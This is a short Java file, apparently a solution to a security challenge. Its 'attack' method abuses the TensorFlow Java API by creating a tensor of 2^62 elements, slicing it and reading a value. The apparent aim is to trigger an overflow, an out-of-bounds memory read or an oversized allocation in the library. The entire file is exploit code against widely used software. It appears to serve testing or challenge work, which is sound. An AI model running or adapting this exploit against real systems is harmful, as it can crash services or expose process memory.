import org.tensorflow.Operand;
import org.tensorflow.Tensor;
import org.tensorflow.ndarray.Shape;
import org.tensorflow.op.Ops;
import org.tensorflow.types.TFloat32;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) {
        TFloat32 tensor = Tensor.of(TFloat32.class, Shape.of(1L << 62));
        Operand<TFloat32> constant = tf.constantOf(tensor);
        Operand<TFloat32> first = tf.slice(constant, tf.array(16L), tf.array(4L));
        first.asTensor().getFloat(0);
    }
}
